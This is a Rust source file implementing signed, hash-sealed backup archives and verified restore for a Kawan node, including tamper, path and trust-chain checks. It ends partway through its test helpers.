//! Online backup and restore (docs/operations.md, "Backup and restore").
//!
//! A backup is a tar archive: `manifest.json`, `manifest.sig`, `kawan.toml`,
//! the pinned `genesis.trust`, and each database as it stood at one instant
//! — `local.kv` (cases, tokens, audit log, watchlists…) then `records.kv` —
//! read from a snapshot while the node goes on serving and ingesting. The
//! local database is read first: records only ever grow, so every record
//! the local database refers to (a case link, an alert) is in the later
//! records snapshot. The agency key (and the operator token file) are added
//! only on request, by the CLI, which always encrypts the archive (age).
//!
//! **Sealed.** The manifest names the BLAKE3 hash of every file the node put
//! in, and the node signs it with its agency key (`manifest.sig`). A restore
//! trusts nothing the archive says about who made it: it checks the
//! signature against keys the operator names, or against the agency's keys
//! in trust lists that chain from a genesis the operator supplies
//! ([`Anchor`]); then every file's hash, the trust lists' chain, every
//! record's signature and the audit log. An added key must be the signer's,
//! an added operator token one of the restored tokens. Any byte changed
//! anywhere is refused before anything is written to the node directory.
//!
//! A `.kv` file is a sequence of entries: a keyspace name (u8 length, bytes),
//! a key (u32 big-endian length, bytes), a value (u32 length, bytes).
//! Backup and restore stream it: memory stays bounded whatever its size.

use std::{
    collections::BTreeMap,
    io::{BufReader, BufWriter, Read, Write},
    path::{Path, PathBuf},
};

use kawan_protocol::{AgencyKey, Envelope, Keypair, MemberId, Sig, SignedTrustList, TrustList};
use serde::{Deserialize, Serialize};

use crate::{
    clock::Clock,
    config::Config,
    data_dir::DataDir,
    node_dir,
    store::{StoreError, engine::Batch, engine::Space},
};

/// Backup formats this binary writes and reads (1: unsigned, before sealing).
pub const FORMAT: u32 = 2;
/// Entries written per batch when restoring.
const RESTORE_BATCH: usize = 10_000;
/// The largest small file (manifest, config, genesis, key, token) a restore reads.
const MAX_SMALL_FILE: u64 = 4 << 20;
const MANIFEST_DOMAIN: &[u8] = b"kawan/backup-manifest/v1";

#[derive(Debug, thiserror::Error)]
pub enum BackupError {
    #[error(transparent)]
    Store(#[from] StoreError),
    #[error("{0}")]
    Io(#[from] std::io::Error),
    #[error("{path} is not empty: restore into a new directory")]
    NotEmpty { path: PathBuf },
    #[error("not a Kawan backup: {0}")]
    Malformed(String),
    #[error(
        "backup format {found}; this binary reads format {FORMAT} only (format 1 backups are unsigned, so nothing can show they were not altered)"
    )]
    Format { found: u32 },
    #[error("the backup was altered or is not this agency's: {0}")]
    Tampered(String),
    #[error("cannot open the restored databases: {0}")]
    Open(String),
    #[error("the restored audit log does not verify: {0}")]
    Audit(String),
    #[error("{bad} of {total} restored records fail their signature check")]
    Records { bad: u64, total: u64 },
}

/// What a restore trusts to say who made a backup: never the archive.
#[derive(Debug, Clone)]
pub enum Anchor {
    /// Agency keys the operator names (`kawan restore --signer`, printed by
    /// `kawan backup`): the manifest must be signed by one of them.
    Keys(Vec<AgencyKey>),
    /// The network's genesis trust list as the operator holds it, and the
    /// agency's member id (`kawan restore --genesis FILE --agency ID`): the
    /// backup's trust lists must chain from it, and the signer must be that
    /// member's current key in the newest of them.
    Genesis { genesis: Box<SignedTrustList>, member: MemberId },
}

/// What a backup holds, written first in the archive.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, utoipa::ToSchema)]
pub struct Manifest {
    pub format: u32,
    pub kawan_version: String,
    pub agency: String,
    pub network: String,
    /// This agency's keys (hex): the one it signs with and retired ones,
    /// which the audit log's checkpoints are verified against.
    pub agency_keys: Vec<String>,
    pub created_ms: u64,
    /// Entries per `database/keyspace`.
    pub entries: BTreeMap<String, u64>,
    /// The key whose signature over this manifest is `manifest.sig`.
    pub signer: String,
    /// Every file the node put in the archive, by name.
    pub files: BTreeMap<String, FileEntry>,
}

/// One file of a backup, as its manifest names it.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize, utoipa::ToSchema)]
pub struct FileEntry {
    /// BLAKE3 of its bytes, hex.
    pub blake3: String,
    pub bytes: u64,
}

impl Manifest {
    pub fn count(&self, db: &str, space: &str) -> u64 {
        self.entries.get(&format!("{db}/{space}")).copied().unwrap_or(0)
    }
}

/// What a restore put in place, and what it checked.
#[derive(Debug, Clone, Serialize)]
pub struct Restored {
    pub manifest: Manifest,
    pub records: u64,
    pub audit_entries: u64,
    pub cases: usize,
    pub tokens: usize,
    pub key_restored: bool,
    pub operator_token_restored: bool,
    /// Trust lists whose chain from the genesis was verified, and the
    /// newest one's version (compare it with what the network shows).
    pub trust_lists: usize,
    pub trust_version: Option<u64>,
}

fn put_entry(out: &mut impl Write, space: &str, k: &[u8], v: &[u8]) -> std::io::Result<()> {
    out.write_all(&[space.len() as u8])?;
    out.write_all(space.as_bytes())?;
    out.write_all(&(k.len() as u32).to_be_bytes())?;
    out.write_all(k)?;
    out.write_all(&(v.len() as u32).to_be_bytes())?;
    out.write_all(v)
}

/// A writer (or reader) that hashes what passes through.
struct Hashing<T> {
    inner: T,
    hash: blake3::Hasher,
}

impl<T> Hashing<T> {
    fn new(inner: T) -> Hashing<T> {
        Hashing { inner, hash: blake3::Hasher::new() }
    }

    fn hex(&self) -> String {
        self.hash.finalize().to_hex().to_string()
    }
}

impl<W: Write> Write for Hashing<W> {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        let n = self.inner.write(buf)?;
        self.hash.update(&buf[..n]);
        Ok(n)
    }

    fn flush(&mut self) -> std::io::Result<()> {
        self.inner.flush()
    }
}

impl<R: Read> Read for Hashing<R> {
    fn read(&mut self, buf: &mut [u8]) -> std::io::Result<usize> {
        let n = self.inner.read(buf)?;
        self.hash.update(&buf[..n]);
        Ok(n)
    }
}

/// Dumps one database into `path`; entries per keyspace, and the file's entry.
fn dump_to(
    path: &Path,
    dump: impl FnOnce(&mut crate::store::engine::Sink) -> Result<(), StoreError>,
) -> Result<(BTreeMap<String, u64>, FileEntry), BackupError> {
    let mut out = Hashing::new(BufWriter::new(std::fs::File::create(path)?));
    let mut counts = BTreeMap::new();
    dump(&mut |space, k, v| {
        *counts.entry(space.to_string()).or_insert(0) += 1;
        put_entry(&mut out, space, k, v).map_err(|e| StoreError::Write(e.to_string()))
    })?;
    let hash = out.hex();
    let file = out.inner.into_inner().map_err(|e| e.into_error())?;
    file.sync_all()?;
    Ok((counts, FileEntry { blake3: hash, bytes: file.metadata()?.len() }))
}

/// Writes a backup of a running node to `out`: consistent per database,
/// without stopping writes, its manifest signed with `key`. `work` is a
/// private scratch directory.
pub fn write(
    data: &DataDir,
    node_dir: &Path,
    config: &Config,
    key: &Keypair,
    agency_keys: Vec<String>,
    work: &Path,
    out: impl Write,
) -> Result<Manifest, BackupError> {
    let (local, records) = (work.join("local.kv"), work.join("records.kv"));
    let (local_counts, local_hash) = dump_to(&local, |sink| data.local().dump(sink))?;
    let (record_counts, records_hash) = dump_to(&records, |sink| data.store.dump(sink))?;
    let mut entries = BTreeMap::new();
    entries.extend(local_counts.into_iter().map(|(s, n)| (format!("local/{s}"), n)));
    entries.extend(record_counts.into_iter().map(|(s, n)| (format!("records/{s}"), n)));
    let mut small = Vec::new();
    for (name, path) in
        [(ARCHIVED_CONFIG, crate::config::path(node_dir)), (ARCHIVED_GENESIS, node_dir.join(&config.paths.genesis))]
    {
        if path.is_file() {
            small.push((name, std::fs::read(&path)?));
        }
    }
    let mut files: BTreeMap<String, FileEntry> = small
        .iter()
        .map(|(name, bytes)| {
            (
                name.to_string(),
                FileEntry { blake3: blake3::hash(bytes).to_hex().to_string(), bytes: bytes.len() as u64 },
            )
        })
        .collect();
    files.insert("local.kv".into(), local_hash);
    files.insert("records.kv".into(), records_hash);
    let manifest = Manifest {
        format: FORMAT,
        kawan_version: env!("CARGO_PKG_VERSION").into(),
        agency: config.agency.name.clone(),
        network: config.agency.network.to_string(),
        agency_keys,
        created_ms: data.clock().now_ms(),
        entries,
        signer: key.public().to_string(),
        files,
    };
    let mut tar = tar::Builder::new(out);
    append_manifest(&mut tar, &manifest, key)?;
    let mtime = manifest.created_ms / 1000;
    for (name, bytes) in &small {
        append_bytes(&mut tar, name, bytes, mtime)?;
    }
    tar.append_path_with_name(&local, "local.kv")?;
    tar.append_path_with_name(&records, "records.kv")?;
    tar.into_inner()?.flush()?;
    Ok(manifest)
}

/// Starts an archive: the manifest, then its signature by `key`.
fn append_manifest<W: Write>(tar: &mut tar::Builder<W>, manifest: &Manifest, key: &Keypair) -> Result<(), BackupError> {
    let json = serde_json::to_vec_pretty(manifest).map_err(|e| BackupError::Malformed(e.to_string()))?;
    let sig = hex::encode(key.sign(MANIFEST_DOMAIN, &json).0);
    let mtime = manifest.created_ms / 1000;
    append_bytes(tar, ARCHIVED_MANIFEST, &json, mtime)?;
    append_bytes(tar, ARCHIVED_SIG, sig.as_bytes(), mtime)?;
    Ok(())
}

/// An archive of in-memory files sealed as [`write`] seals a node's: a
/// manifest of their hashes signed by `key`, then the files. For tests and
/// the fuzz target, which need signed archives of chosen bytes.
pub fn seal(files: &[(&str, &[u8])], key: &Keypair, created_ms: u64) -> Result<Vec<u8>, BackupError> {
    let manifest = Manifest {
        format: FORMAT,
        kawan_version: env!("CARGO_PKG_VERSION").into(),
        agency: String::new(),
        network: String::new(),
        agency_keys: vec![key.public().to_string()],
        created_ms,
        entries: BTreeMap::new(),
        signer: key.public().to_string(),
        files: files
            .iter()
            .map(|(name, bytes)| {
                let entry = FileEntry { blake3: blake3::hash(bytes).to_hex().to_string(), bytes: bytes.len() as u64 };
                (name.to_string(), entry)
            })
            .collect(),
    };
    let mut tar = tar::Builder::new(Vec::new());
    append_manifest(&mut tar, &manifest, key)?;
    for (name, bytes) in files {
        append_bytes(&mut tar, name, bytes, created_ms / 1000)?;
    }
    Ok(tar.into_inner()?)
}

/// Appends in-memory bytes as a file (mode 0600) modified at `mtime_s`.
pub fn append_bytes<W: Write>(
    tar: &mut tar::Builder<W>,
    name: &str,
    bytes: &[u8],
    mtime_s: u64,
) -> std::io::Result<()> {
    let mut header = tar::Header::new_gnu();
    header.set_size(bytes.len() as u64);
    header.set_mode(0o600);
    header.set_mtime(mtime_s);
    header.set_cksum();
    tar.append_data(&mut header, name, bytes)
}

/// Names of the node directory's files inside an archive (fixed, whatever
/// the node's `[paths]` said).
const ARCHIVED_MANIFEST: &str = "manifest.json";
const ARCHIVED_SIG: &str = "manifest.sig";
const ARCHIVED_CONFIG: &str = "kawan.toml";
const ARCHIVED_GENESIS: &str = "genesis.trust";
const ARCHIVED_KEY: &str = "agency.key";

/// `target/rel` for a path the restored kawan.toml names: refused unless it
/// stays inside the directory being restored (an archive is not trusted to
/// write elsewhere).
fn inside(target: &Path, rel: &Path, what: &str) -> Result<PathBuf, BackupError> {
    let plain = rel.components().all(|c| matches!(c, std::path::Component::Normal(_)));
    if !plain || rel.as_os_str().is_empty() {
        return Err(BackupError::Malformed(format!(
            "kawan.toml's [paths] {what} = {:?} leaves the node directory",
            rel.display()
        )));
    }
    Ok(target.join(rel))
}

/// `[paths]` must name three different places, none of them a fixed file of
/// the directory and neither file inside the data directory: otherwise one
/// restored file would replace another.
fn distinct_paths(config: &Config) -> Result<(), BackupError> {
    let p = &config.paths;
    let fixed = [ARCHIVED_CONFIG, node_dir::OPERATOR_TOKEN, node_dir::API_ADDR, node_dir::P2P_ADDR, node_dir::NEXT_KEY];
    let clash = p.key == p.genesis
        || [&p.key, &p.genesis]
            .iter()
            .any(|f| f.starts_with(&p.data) || fixed.iter().any(|x| f.as_path() == Path::new(x)))
        || fixed.iter().any(|x| p.data.as_path() == Path::new(x));
    if clash {
        return Err(BackupError::Malformed(format!(
            "kawan.toml's [paths] key = {:?}, genesis = {:?}, data = {:?} overlap",
            p.key.display(),
            p.genesis.display(),
            p.data.display()
        )));
    }
    Ok(())
}

/// Writes a restored file, making the directories `[paths]` names.
fn write_restored(path: &Path, bytes: &[u8], mode: u32) -> std::io::Result<()> {
    if let Some(dir) = path.parent() {
        std::fs::create_dir_all(dir)?;
    }
    crate::files::write_atomic(path, bytes, mode)
}

/// What a restore read from the archive, before it trusts any of it.
struct Unpacked {
    /// The manifest, signed by the key it names (not yet vouched for).
    manifest: Manifest,
    /// Small files by archive name (config, genesis, key, token).
    small: BTreeMap<String, Vec<u8>>,
    /// Hashes of the database files, streamed to the scratch directory.
    hashes: BTreeMap<String, String>,
}

/// Reads the manifest and its signature (the archive's first two files),
/// checks that the key the manifest names signed it, then reads the rest:
/// small files into memory, databases into `scratch` (streamed, hashed, and
/// no larger than the manifest says). Nothing goes to the node directory.
fn unpack(archive: impl Read, scratch: &Path) -> Result<Unpacked, BackupError> {
    let malformed = |e: std::io::Error| BackupError::Malformed(e.to_string());
    let mut archive = tar::Archive::new(archive);
    let mut entries = archive.entries().map_err(malformed)?;
    let mut small_file = |want: &str| -> Result<Vec<u8>, BackupError> {
        let mut entry = entries
            .next()
            .ok_or_else(|| BackupError::Malformed(format!("no {want} (an archive starts with it)")))?
            .map_err(malformed)?;
        let name = entry.path().map_err(malformed)?.to_string_lossy().into_owned();
        if name != want || !entry.header().entry_type().is_file() {
            return Err(BackupError::Malformed(format!("the archive starts with {name:?}, not {want}")));
        }
        let mut bytes = Vec::new();
        (&mut entry).take(MAX_SMALL_FILE + 1).read_to_end(&mut bytes)?;
        if bytes.len() as u64 > MAX_SMALL_FILE {
            return Err(BackupError::Malformed(format!("{want} is too large")));
        }
        Ok(bytes)
    };
    let json = small_file(ARCHIVED_MANIFEST)?;
    let sig = small_file(ARCHIVED_SIG)?;
    let manifest = signed_manifest(&json, &sig)?;
    let mut out = Unpacked { manifest, small: BTreeMap::new(), hashes: BTreeMap::new() };
    for entry in entries {
        let mut entry = entry.map_err(malformed)?;
        let name = entry.path().map_err(malformed)?.to_string_lossy().into_owned();
        // A regular file's bytes only: a link or a device in a tampered
        // archive would make restore read something else.
        if !entry.header().entry_type().is_file() {
            return Err(BackupError::Malformed(format!("{name} in the archive is not a regular file")));
        }
        if out.small.contains_key(&name)
            || out.hashes.contains_key(&name)
            || name == ARCHIVED_MANIFEST
            || name == ARCHIVED_SIG
        {
            return Err(BackupError::Malformed(format!("{name} appears twice in the archive")));
        }
        match name.as_str() {
            ARCHIVED_CONFIG | ARCHIVED_GENESIS | ARCHIVED_KEY | node_dir::OPERATOR_TOKEN => {
                let mut bytes = Vec::new();
                (&mut entry).take(MAX_SMALL_FILE + 1).read_to_end(&mut bytes)?;
                if bytes.len() as u64 > MAX_SMALL_FILE {
                    return Err(BackupError::Malformed(format!("{name} in the archive is too large")));
                }
                out.small.insert(name, bytes);
            }
            "local.kv" | "records.kv" => {
                let listed = out.manifest.files.get(&name).map_or(0, |f| f.bytes);
                let mut file = Hashing::new(BufWriter::new(std::fs::File::create(scratch.join(&name))?));
                let copied = std::io::copy(&mut (&mut entry).take(listed + 1), &mut file)?;
                if copied > listed {
                    return Err(BackupError::Tampered(format!("{name} is larger than the signed manifest says")));
                }
                file.flush()?;
                out.hashes.insert(name, file.hex());
            }
            other => return Err(BackupError::Malformed(format!("unexpected file {other:?} in the archive"))),
        }
    }
    Ok(out)
}

/// The manifest, if `sig` is the signature of the key it names over it.
fn signed_manifest(json: &[u8], sig: &[u8]) -> Result<Manifest, BackupError> {
    let value = serde_json::from_slice::<serde_json::Value>(json)
        .map_err(|e| BackupError::Malformed(format!("manifest.json: {e}")))?;
    match value.get("format").and_then(|f| f.as_u64()) {
        Some(f) if f == u64::from(FORMAT) => {}
        Some(f) => return Err(BackupError::Format { found: u32::try_from(f).unwrap_or(u32::MAX) }),
        None => return Err(BackupError::Malformed("manifest.json names no format".into())),
    }
    let m: Manifest =
        serde_json::from_value(value).map_err(|e| BackupError::Malformed(format!("manifest.json: {e}")))?;
    let signer: AgencyKey = m
        .signer
        .parse()
        .map_err(|_| BackupError::Tampered(format!("the manifest's signer {:?} is not a key", m.signer)))?;
    let sig = hex::decode(sig.trim_ascii())
        .ok()
        .and_then(|b| <[u8; 64]>::try_from(b).ok())
        .ok_or_else(|| BackupError::Tampered("manifest.sig is unreadable".into()))?;
    if !signer.verify(MANIFEST_DOMAIN, json, &Sig(sig)) {
        return Err(BackupError::Tampered(format!(
            "manifest.json does not match its signature by {signer}: a byte of it was changed"
        )));
    }
    Ok(m)
}

/// Checks that the anchor vouches for the manifest's signer and every file
/// the node put in the archive is there, unchanged; returns the stored
/// trust lists (a verified chain) and the newest one.
fn verify_archive(
    u: &Unpacked,
    scratch: &Path,
    anchor: &Anchor,
) -> Result<(Vec<SignedTrustList>, Option<TrustList>), BackupError> {
    let m = &u.manifest;
    let signer: AgencyKey = m.signer.parse().map_err(|_| BackupError::Malformed("signer".into()))?;
    for (name, want) in &m.files {
        let got = match u.hashes.get(name) {
            Some(h) => Some(h.clone()),
            None => u.small.get(name).map(|b| blake3::hash(b).to_hex().to_string()),
        };
        match got {
            None => return Err(BackupError::Tampered(format!("{name} was removed from the archive"))),
            Some(h) if h != want.blake3 => {
                return Err(BackupError::Tampered(format!("{name} differs from the signed manifest")));
            }
            Some(_) => {}
        }
    }
    let added = |n: &String| n == ARCHIVED_KEY || n == node_dir::OPERATOR_TOKEN;
    if let Some(extra) = u.small.keys().chain(u.hashes.keys()).find(|n| !added(n) && !m.files.contains_key(*n)) {
        return Err(BackupError::Tampered(format!("{extra} is not in the signed manifest")));
    }
    // The trust lists, re-verified as a chain from the genesis the anchor
    // gives (or the signed archive's own).
    let lists = trust_lists(&scratch.join("records.kv"))?;
    let genesis = match (anchor, u.small.get(ARCHIVED_GENESIS)) {
        (Anchor::Genesis { genesis, .. }, _) => Some((**genesis).clone()),
        (Anchor::Keys(_), Some(bytes)) => Some(
            SignedTrustList::from_bytes(bytes).map_err(|e| BackupError::Malformed(format!("genesis.trust: {e}")))?,
        ),
        // A node that has not joined a network yet has nothing to chain.
        (Anchor::Keys(_), None) if lists.is_empty() => None,
        (Anchor::Keys(_), None) => return Err(BackupError::Malformed("trust lists but no genesis.trust".into())),
    };
    let newest = genesis.map(|g| verify_chain(&g, &lists)).transpose()?;
    match anchor {
        Anchor::Keys(keys) if !keys.contains(&signer) => {
            Err(BackupError::Tampered(format!("it is signed by {signer}, not by a key you named")))
        }
        Anchor::Keys(_) => Ok((lists, newest)),
        Anchor::Genesis { genesis, member } => {
            if u.small.get(ARCHIVED_GENESIS).is_none_or(|b| *b != genesis.to_bytes()) {
                return Err(BackupError::Tampered("the archive pins another genesis than the one you gave".into()));
            }
            // Only the member's current key in the newest list: not another
            // agency's, and not a key it retired (a thief's, perhaps).
            let current = newest.as_ref().and_then(|l| l.member(member)).map(|m| m.key);
            if current != Some(signer) {
                return Err(BackupError::Tampered(format!(
                    "it is signed by {signer}, which is not the current key of member {member} in the backup's trust lists"
                )));
            }
            Ok((lists, newest))
        }
    }
}

/// Every trust list stored in a `records.kv` file, by version.
fn trust_lists(records: &Path) -> Result<Vec<SignedTrustList>, BackupError> {
    let mut out = BTreeMap::new();
    for_each_entry(records, crate::store::keys::SPACES, |space, k, v| {
        if space == "trust" && k.first() == Some(&crate::store::keys::TRUST) {
            let version = crate::store::keys::u64_be(&k[1..])
                .ok_or_else(|| BackupError::Malformed("a trust list key is unreadable".into()))?;
            let list = SignedTrustList::from_bytes(&v)
                .map_err(|e| BackupError::Tampered(format!("trust list v{version}: {e}")))?;
            out.insert(version, list);
        }
        Ok(())
    })?;
    Ok(out.into_values().collect())
}

/// The last list of `lists` if they chain from `genesis`: the first is the
/// genesis itself, each next one signed by enough coordinators of the one
/// before (at the time it was issued).
fn verify_chain(genesis: &SignedTrustList, lists: &[SignedTrustList]) -> Result<TrustList, BackupError> {
    let bad = |what: String| BackupError::Tampered(format!("the trust lists do not chain from the genesis: {what}"));
    let mut current = genesis.verify_genesis().map_err(|e| bad(format!("genesis: {e}")))?;
    let Some((first, rest)) = lists.split_first() else { return Ok(current) };
    if first.to_bytes() != genesis.to_bytes() {
        return Err(bad("the first stored list is not the genesis".into()));
    }
    for next in rest {
        let issued = next.list().map_err(|e| bad(e.to_string()))?.issued_ms;
        current = next.verify_update(&current, issued).map_err(|e| bad(e.to_string()))?;
    }
    Ok(current)
}

/// Restores a backup into `target` (which must not exist or be empty).
/// Everything is checked before the node directory gets a byte: the
/// manifest's signature against `anchor`, every file's hash, the trust
/// lists' chain, an added key or token; then both databases are loaded and
/// every record's signature and the audit log are checked.
pub fn restore(archive: impl Read, target: &Path, clock: Clock, anchor: &Anchor) -> Result<Restored, BackupError> {
    if target.is_symlink() {
        return Err(BackupError::Malformed(format!(
            "{} is a symbolic link: restore into a real directory",
            target.display()
        )));
    }
    if target.exists() && std::fs::read_dir(target)?.next().is_some() {
        return Err(BackupError::NotEmpty { path: target.to_owned() });
    }
    let created = !target.exists();
    let result = restore_into(archive, target, clock, anchor);
    if result.is_err() {
        // Nothing half-restored is left to be mistaken for a node.
        if created {
            let _ = std::fs::remove_dir_all(target);
        } else if let Ok(entries) = std::fs::read_dir(target) {
            for e in entries.flatten() {
                let _ =
                    if e.path().is_dir() { std::fs::remove_dir_all(e.path()) } else { std::fs::remove_file(e.path()) };
            }
        }
    }
    result
}

fn restore_into(archive: impl Read, target: &Path, clock: Clock, anchor: &Anchor) -> Result<Restored, BackupError> {
    std::fs::create_dir_all(target)?;
    // Like `kawan init`: the directory holds cases and the agency key.
    std::fs::set_permissions(target, std::os::unix::fs::PermissionsExt::from_mode(0o700))?;
    let scratch = tempfile::tempdir_in(target)?;
    let unpacked = unpack(archive, scratch.path())?;
    let (lists, newest) = verify_archive(&unpacked, scratch.path(), anchor)?;
    let manifest = unpacked.manifest.clone();
    let signer: AgencyKey = manifest.signer.parse().map_err(|_| BackupError::Malformed("signer".into()))?;
    if let Some(bytes) = unpacked.small.get(ARCHIVED_KEY) {
        let key = std::str::from_utf8(bytes).ok().and_then(crate::identity::from_text);
        if key.is_none_or(|k| k.public() != signer) {
            return Err(BackupError::Tampered("the agency key in the archive is not the key that signed it".into()));
        }
    }
    let config_bytes =
        unpacked.small.get(ARCHIVED_CONFIG).ok_or_else(|| BackupError::Malformed("no kawan.toml".into()))?;
    let config_text =
        std::str::from_utf8(config_bytes).map_err(|_| BackupError::Malformed("kawan.toml is not text".into()))?;
    let config =
        Config::parse(config_text, Path::new(ARCHIVED_CONFIG)).map_err(|e| BackupError::Malformed(e.to_string()))?;
    distinct_paths(&config)?;
    let key_path = inside(target, &config.paths.key, "key")?;
    let genesis_path = inside(target, &config.paths.genesis, "genesis")?;
    let data_path = inside(target, &config.paths.data, "data")?;
    let records = {
        let data = DataDir::open(&data_path, clock.clone()).map_err(|e| BackupError::Open(e.to_string()))?;
        import(&scratch.path().join("local.kv"), crate::local::SPACES, |b| data.local().import(b))?;
        // Review dates follow the policy of the list the archive ends with.
        let policy = newest.as_ref().map(|l| l.retention()).unwrap_or_default();
        let (records, bad) = import_records(&scratch.path().join("records.kv"), &policy, |b| data.store.import(b))?;
        if bad > 0 {
            return Err(BackupError::Records { bad, total: records });
        }
        data.close()?;
        records
    };
    drop(scratch);
    // Opened again so the store reads the restored trust list.
    let data = DataDir::open(&data_path, clock.clone()).map_err(|e| BackupError::Open(e.to_string()))?;
    // What was erased or went past review since the backup was taken stays
    // gone: the archive's erasures apply again under the restored list, and
    // what is due expires now rather than at the first sweep.
    let gone = |e: StoreError| BackupError::Open(format!("applying erasures and review dates: {e}"));
    data.store.reapply_erasures().map_err(gone)?;
    while !data.store.expire_due(10_000).map_err(gone)?.is_empty() {}
    // The manifest is the signer's now, so its list of keys is too.
    let keys: Vec<AgencyKey> = manifest.agency_keys.iter().filter_map(|k| k.parse().ok()).collect();
    let audit_entries = data.audit.verify(&keys).map_err(|e| BackupError::Audit(e.to_string()))?;
    let unreadable = |e: &dyn std::fmt::Display| BackupError::Open(format!("the restored local database: {e}"));
    let cases = data.cases.list().map_err(|e| unreadable(&e))?.len();
    let tokens = data.tokens.list().map_err(|e| unreadable(&e))?.len();
    let operator_token = unpacked.small.get(node_dir::OPERATOR_TOKEN);
    if let Some(bytes) = operator_token {
        let token = String::from_utf8_lossy(bytes);
        let info = data.tokens.check(token.trim()).map_err(|e| unreadable(&e))?;
        if info.is_none_or(|i| i.role != crate::local::tokens::Role::Operator) {
            return Err(BackupError::Tampered(
                "the operator token in the archive is not one of the node's operator tokens".into(),
            ));
        }
    }
    data.close()?;
    crate::files::write_atomic(&target.join(crate::config::FILE), config_bytes, 0o600)?;
    if let Some(bytes) = unpacked.small.get(ARCHIVED_KEY) {
        write_restored(&key_path, bytes, 0o600)?;
    }
    if let Some(bytes) = unpacked.small.get(ARCHIVED_GENESIS) {
        write_restored(&genesis_path, bytes, 0o644)?;
    }
    if let Some(bytes) = operator_token {
        crate::files::write_atomic(&target.join(node_dir::OPERATOR_TOKEN), bytes, 0o600)?;
    }
    Ok(Restored {
        manifest,
        records,
        audit_entries,
        cases,
        tokens,
        key_restored: unpacked.small.contains_key(ARCHIVED_KEY),
        operator_token_restored: operator_token.is_some(),
        trust_lists: lists.len(),
        trust_version: newest.map(|l| l.version),
    })
}

/// Calls `f` on every entry of a `.kv` file, streamed.
fn for_each_entry(
    path: &Path,
    spaces: &[Space],
    mut f: impl FnMut(Space, Vec<u8>, Vec<u8>) -> Result<(), BackupError>,
) -> Result<(), BackupError> {
    let file = std::fs::File::open(path).map_err(|_| {
        BackupError::Malformed(format!("no {} in the archive", path.file_name().unwrap_or_default().display()))
    })?;
    let mut r = BufReader::new(file);
    loop {
        let mut len = [0u8; 1];
        match r.read_exact(&mut len) {
            Ok(()) => {}
            Err(e) if e.kind() == std::io::ErrorKind::UnexpectedEof => break,
            Err(e) => return Err(e.into()),
        }
        let mut name = vec![0u8; len[0] as usize];
        r.read_exact(&mut name)?;
        let space = spaces
            .iter()
            .find(|s| s.as_bytes() == name.as_slice())
            .ok_or_else(|| BackupError::Malformed(format!("unknown keyspace {:?}", String::from_utf8_lossy(&name))))?;
        let k = read_chunk(&mut r)?;
        let v = read_chunk(&mut r)?;
        f(space, k, v)?;
    }
    Ok(())
}

/// Writes a `.kv` file's entries into a database, in batches.
fn import(
    path: &Path,
    spaces: &[Space],
    mut commit: impl FnMut(Batch) -> Result<(), StoreError>,
) -> Result<(), BackupError> {
    let mut batch = Batch::default();
    for_each_entry(path, spaces, |space, k, v| {
        batch.insert(space, k, v);
        if batch.len() >= RESTORE_BATCH {
            commit(std::mem::take(&mut batch))?;
        }
        Ok(())
    })?;
    commit(batch)?;
    Ok(())
}

/// Writes a records database's entries, verifying every record on the way
/// and rebuilding what is derived from records (indices, references,
/// counts) from the verified ones rather than copying the archive's.
/// Returns (records, records that failed to verify).
fn import_records(
    path: &Path,
    policy: &kawan_protocol::Retention,
    mut commit: impl FnMut(Batch) -> Result<(), StoreError>,
) -> Result<(u64, u64), BackupError> {
    use crate::store::keys;
    let (mut records, mut bad) = (0u64, 0u64);
    let mut counts: BTreeMap<Vec<u8>, u64> = BTreeMap::new();
    let mut batch = Batch::default();
    for_each_entry(path, keys::SPACES, |space, k, v| {
        if keys::is_derived(space, &k) {
            return Ok(());
        }
        if space == "records" {
            records += 1;
            // A record must open, and be stored under its own id.
            let verified = v.get(8..).and_then(|e| Envelope::from_bytes(e).ok()).and_then(|e| e.open().ok());
            let Some(verified) = verified.filter(|r| keys::record(&r.id) == k) else {
                bad += 1;
                return Ok(());
            };
            let (index, count) = crate::store::derived_keys(&verified, policy);
            for key in index {
                batch.insert(keys::space_of(&key), key, Vec::new());
            }
            *counts.entry(count).or_default() += 1;
        }
        batch.insert(space, k, v);
        if batch.len() >= RESTORE_BATCH {
            commit(std::mem::take(&mut batch))?;
        }
        Ok(())
    })?;
    for (key, n) in counts {
        batch.insert(keys::space(keys::COUNT), key, n.to_be_bytes().to_vec());
    }
    commit(batch)?;
    Ok((records, bad))
}

/// A length-prefixed chunk, its length bounded by what the file still holds.
fn read_chunk(r: &mut impl Read) -> Result<Vec<u8>, BackupError> {
    let mut len = [0u8; 4];
    r.read_exact(&mut len).map_err(|_| BackupError::Malformed("a database file ends early".into()))?;
    let len = u32::from_be_bytes(len) as usize;
    let mut out = Vec::with_capacity(len.min(1 << 20));
    let read = r.take(len as u64).read_to_end(&mut out)?;
    if read != len {
        return Err(BackupError::Malformed("a database file ends early".into()));
    }
    Ok(out)
}

#[cfg(test)]
mod tests {
    use kawan_protocol::{
        Body, Indicator, IndicatorRole, Keypair, Kind, Member, MemberId, MemberRole, NetworkId, Tlp, TrustList,
    };

    use super::*;

    fn key() -> Keypair {
        Keypair::from_secret_bytes([3; 32])
    }

    fn mine() -> Anchor {
        Anchor::Keys(vec![key().public()])
    }

    /// A genesis listing this agency as its one coordinator.
    fn genesis(network: &NetworkId) -> SignedTrustList {
        let list = TrustList {
            attachment_max_bytes: None,
            retention: None,
            decay: None,
            network: network.clone(),
            version: 1,
            issued_ms: 1_764_000_000_000,
            threshold: 1,
            members: vec![Member {
                id: MemberId::new("example").unwrap(),
                name: "Example Agency".into(),
                country: "GB".parse().unwrap(),
                key: key().public(),
                roles: vec![MemberRole::Coordinator],
                addrs: vec![],
                expires_ms: None,
                key_from_ms: None,
                retired_keys: vec![],
            }],
            groups: vec![],
        };
        let mut signed = SignedTrustList::new(&list).unwrap();
        signed.sign(&key());
        signed
    }

    /// A node directory with a genesis, a published record, a case and its
    /// audit entries; its backup archive.
    fn backed_up() -> (tempfile::TempDir, Vec<u8>) {
        backed_up_with_key_at(node_dir::DEFAULT_KEY)
    }

    /// The same, from a node whose kawan.toml keeps its key at `key_path`.
    fn backed_up_with_key_at(key_path: &str) -> (tempfile::TempDir, Vec<u8>) {
        backed_up_after(key_path, |_| {})
    }

    /// The same, after `change` was made to the node's databases (by the
    /// node key's holder: the backup is signed after it).
    fn backed_up_after(key_path: &str, change: impl FnOnce(&DataDir)) -> (tempfile::TempDir, Vec<u8>) {
        let dir = tempfile::tempdir().unwrap();
